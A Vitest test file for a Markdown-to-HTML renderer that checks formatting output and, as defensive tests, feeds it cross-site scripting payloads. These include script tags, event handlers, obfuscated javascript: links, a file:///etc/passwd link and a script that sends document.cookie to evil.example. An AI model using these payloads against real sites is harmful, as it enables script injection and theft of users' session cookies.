import { describe, it, expect } from "vitest";
import { renderMarkdown } from "./markdown";

const ALLOWED_TAGS = new Set([
  "h1", "h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "ul", "ol", "li", "strong", "em", "code",
  "pre", "blockquote", "a", "table", "thead", "tbody", "tr", "th", "td",
]);

/** Every tag in the output, as the browser would see it. */
function tags(html: string): { name: string; source: string }[] {
  return [...html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9]*)\b[^>]*>/g)].map((m) => ({
    name: m[1]!.toLowerCase(),
    source: m[0],
  }));
}

function hrefs(html: string): string[] {
  return [...html.matchAll(/<a\b[^>]*\bhref="([^"]*)"/g)].map((m) => m[1]!);
}

/** Attribute names of a tag; quoted values are skipped, so text inside them is no attribute. */
function attributeNames(tagSource: string): string[] {
  const inner = tagSource.replace(/^<\/?[a-zA-Z0-9]+/, "").replace(/\/?>$/, "");
  return [...inner.matchAll(/([^\s"'=<>/]+)(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'=<>`]+))?/g)].map((m) =>
    m[1]!.toLowerCase(),
  );
}

/** The output contains no element outside the allowlist and no event handler or script URL. */
function expectSafe(html: string): void {
  for (const tag of tags(html)) {
    expect(ALLOWED_TAGS.has(tag.name), tag.source).toBe(true);
    for (const name of attributeNames(tag.source)) {
      expect(["href", "title", "target", "rel", "start", "align", "class"], tag.source).toContain(name);
    }
  }
  for (const href of hrefs(html)) expect(href).toMatch(/^(https?:|mailto:)/);
}

describe("renderMarkdown formatting", () => {
  it("renders headings, paragraphs, emphasis and code", () => {
    expect(renderMarkdown("## Before you start\n\nRead **all** of *this* and run `npm test`.")).toBe(
      "<h2>Before you start</h2>\n<p>Read <strong>all</strong> of <em>this</em> and run <code>npm test</code>.</p>\n",
    );
  });

  it("renders lists, keeping the number an ordered list starts at", () => {
    const html = renderMarkdown("- one\n- two\n\n3. three\n4. four");
    expect(html).toContain("<ul>\n<li>one</li>\n<li>two</li>\n</ul>");
    expect(html).toContain('<ol start="3">');
  });

  it("renders code blocks with their language and escapes their content", () => {
    expect(renderMarkdown("```ts\nif (a < b && c) {}\n```")).toBe(
      '<pre><code class="language-ts">if (a &lt; b &amp;&amp; c) {}\n</code></pre>\n',
    );
  });

  it("renders blockquotes, rules and line breaks", () => {
    const html = renderMarkdown("> Quoted\n\n---\n\nline one  \nline two");
    expect(html).toContain("<blockquote>\n<p>Quoted</p>\n</blockquote>");
    expect(html).toContain("<hr />");
    expect(html).toContain("line one<br />line two");
  });

  it("renders tables with column alignment", () => {
    const html = renderMarkdown("| Course | Days |\n|:--|--:|\n| Ethics | 0.5 |");
    expect(html).toContain('<th align="left">Course</th>');
    expect(html).toContain('<td align="right">0.5</td>');
    expect(tags(html).map((t) => t.name)).toEqual(
      expect.arrayContaining(["table", "thead", "tbody", "tr", "th", "td"]),
    );
  });

  it("opens web and mail links in a new tab without giving it the opener", () => {
    expect(renderMarkdown("[UN](https://www.un.org/en/)")).toBe(
      '<p><a href="https://www.un.org/en/" target="_blank" rel="noopener noreferrer">UN</a></p>\n',
    );
    const html = renderMarkdown("Write to [us](mailto:learning@un.org) or see http://example.org");
    expect(hrefs(html)).toEqual(["mailto:learning@un.org", "http://example.org"]);
    expect(html.match(/rel="noopener noreferrer"/g)).toHaveLength(2);
  });

  it("shows raw HTML as the author typed it", () => {
    expect(renderMarkdown("Generic List<T> and a < b")).toBe("<p>Generic List&lt;T&gt; and a &lt; b</p>\n");
    expect(renderMarkdown("Press <kbd>Ctrl</kbd>")).toBe("<p>Press &lt;kbd&gt;Ctrl&lt;/kbd&gt;</p>\n");
  });

  it("keeps the ticks of a task list", () => {
    expect(renderMarkdown("- [x] Read\n- [ ] Quiz")).toContain("☑");
    expect(renderMarkdown("- [x] Read\n- [ ] Quiz")).toContain("☐");
  });

  it("renders nothing for nothing", () => {
    expect(renderMarkdown("")).toBe("");
  });
});

describe("renderMarkdown attacks", () => {
  it("uses a safety check that catches unsafe HTML", () => {
    expect(() => expectSafe('<img src="x" onerror="alert(1)">')).toThrow();
    expect(() => expectSafe('<p onclick="alert(1)">x</p>')).toThrow();
    expect(() => expectSafe('<a href="javascript:alert(1)">x</a>')).toThrow();
    expect(() => expectSafe('<a title="x&quot; onclick=&quot;y" href="https://un.org">x</a>')).not.toThrow();
  });

  it("does not run a script tag", () => {
    const html = renderMarkdown("Hello <script>alert(document.cookie)</script>");
    expectSafe(html);
    expect(html).not.toMatch(/<script/i);
  });

  it("does not run a block of script or style", () => {
    const html = renderMarkdown("<script>\nfetch('https://evil.example/?c=' + document.cookie)\n</script>\n\n<style>body{display:none}</style>");
    expectSafe(html);
    expect(html).not.toMatch(/<(script|style)/i);
  });

  it("does not keep an image with onerror", () => {
    const html = renderMarkdown('Look: <img src=x onerror="alert(1)">');
    expectSafe(html);
    expect(html).not.toMatch(/<img/i);
  });

  it("does not keep an iframe, object, embed or form", () => {
    const html = renderMarkdown(
      '<iframe src="https://evil.example"></iframe>\n\n<object data="x.swf"></object><embed src="x.swf">\n\n<form action="https://evil.example"><input name="password"></form>',
    );
    expectSafe(html);
    expect(html).not.toMatch(/<(iframe|object|embed|form|input)/i);
  });

  it("does not keep SVG or MathML handlers", () => {
    const html = renderMarkdown('<svg onload="alert(1)"><circle/></svg> <math><mtext><img src=x onerror=alert(1)></mtext></math>');
    expectSafe(html);
  });

  it("does not keep event handlers on HTML wrapped around Markdown", () => {
    const html = renderMarkdown('<div onclick="alert(1)" style="position:fixed">\n\n**Bold**\n\n</div>');
    expectSafe(html);
    expect(html).toContain("<strong>Bold</strong>");
  });

  it("removes javascript: links however they are written", () => {
    const attacks = [
      "[click](javascript:alert(1))",
      "[click](JaVaScRiPt:alert(1))",
      "[click](java&#x09;script:alert(1))",
      "[click](&#106;avascript:alert(1))",
      "[click](javascript&colon;alert(1))",
      "[click](%20javascript:alert(1))",
      "<javascript:alert(1)>",
      '<a href="javascript:alert(1)">click</a>',
      "[click]: javascript:alert(1)\n\n[click]",
    ];
    for (const md of attacks) {
      const html = renderMarkdown(md);
      expectSafe(html);
      expect(hrefs(html), md).toEqual([]);
    }
  });

  it("removes data:, vbscript: and file: links", () => {
    for (const md of [
      "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
      "[x](vbscript:msgbox(1))",
      "[x](file:///etc/passwd)",
    ]) {
      expect(hrefs(renderMarkdown(md)), md).toEqual([]);
    }
  });

  it("keeps the link text when it removes the link", () => {
    expect(renderMarkdown("[click here](javascript:alert(1))")).toBe("<p><a>click here</a></p>\n");
  });

  it("does not link relative or protocol-relative URLs", () => {
    expect(hrefs(renderMarkdown("[a](/admin) [b](//evil.example/x) [c](#top)"))).toEqual([]);
  });

  it("does not let a link title break out of its attribute", () => {
    const html = renderMarkdown('[ok](https://un.org "x\\" onmouseover=\\"alert(1)")');
    expectSafe(html);
    expect(hrefs(html)).toEqual(["https://un.org"]);
    expect(attributeNames(tags(html).find((t) => t.name === "a")!.source)).not.toContain("onmouseover");
  });

  it("does not let a code block's language add attributes", () => {
    const html = renderMarkdown('```js" onclick="alert(1)\nx\n```');
    expectSafe(html);
  });

  it("does not show images, which could track readers", () => {
    const html = renderMarkdown("![Campus map](https://tracker.example/pixel.gif) ![x](javascript:alert(1))");
    expectSafe(html);
    expect(html).not.toMatch(/<img/i);
    expect(html).toContain("Campus map");
  });
});
